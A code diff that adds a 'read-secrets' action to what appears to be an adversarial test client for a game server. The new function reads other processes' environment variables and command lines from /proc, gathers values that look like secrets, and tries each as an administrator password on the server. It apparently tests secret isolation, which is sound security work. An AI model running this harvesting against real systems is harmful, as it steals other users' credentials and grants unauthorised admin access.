@@ -13,6 +13,7 @@ assert sys.platform != "win32"
 import argparse
 import contextlib
 import ctypes
+import json
 import os
 import random
 import signal
@@ -123,6 +124,32 @@ def take_seat(host: str, port: int, *, is_in_flight: bool) -> None:
     os._exit(0)
 
 
+def read_secrets(host: str, port: int) -> None:
+    """Look for secrets in all variables that this user can read, and try each as the password.
+
+    A secret contains what is in the file ``beginning``. Writes to ``found.json`` what was found where, and the server's
+    answers.
+    """
+    beginning = Path("beginning").read_text()
+    processes = [each for each in Path("/proc").glob("[0-9]*") if each.name != str(os.getpid())]
+    found = {"own variables": sorted(value for value in os.environ.values() if beginning in value)}
+    for process in processes:
+        with contextlib.suppress(OSError):
+            variables = (process / "environ").read_bytes().decode(errors="replace").split("\0")
+            command = (process / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
+            if secrets := [each.partition("=")[2] for each in variables if beginning in each]:
+                found[command] = secrets
+    answers = [authenticate(host, port, each) for each in sorted({each for some in found.values() for each in some})]
+    Path("found.json").write_text(json.dumps({"found": found, "answers": answers}))
+
+
+def authenticate(host: str, port: int, password: str) -> str:
+    """Try to become an administrator, and return the beginning of the server's answer."""
+    with socket.create_connection((host, port), timeout=10) as sock:
+        sock.sendall(f'<protocol><authenticate password="{password}"/><observe roomId="x"/>'.encode())
+        return sock.recv(4096).decode(errors="replace")
+
+
 def leave_process(environment: dict[str, str]) -> None:
     """Leave a process behind that is in another session, has no parent, and has this environment."""
     if os.fork():
@@ -212,6 +239,7 @@ ACTIONS: dict[str, Callable[[str, int, str], None]] = {
     "frame": lambda _host, _port, _code: leave_process_of_opponent(),
     "kill-parent": lambda _host, _port, _code: kill_parent(),
     "guess": guess_codes,
+    "read-secrets": lambda host, port, _code: read_secrets(host, port),
     "noise": lambda _host, _port, _code: write_endlessly(),
     "absent": lambda _host, _port, _code: sys.exit(0),
     "stop-parent": lambda _host, _port, _code: stop_parent(1),
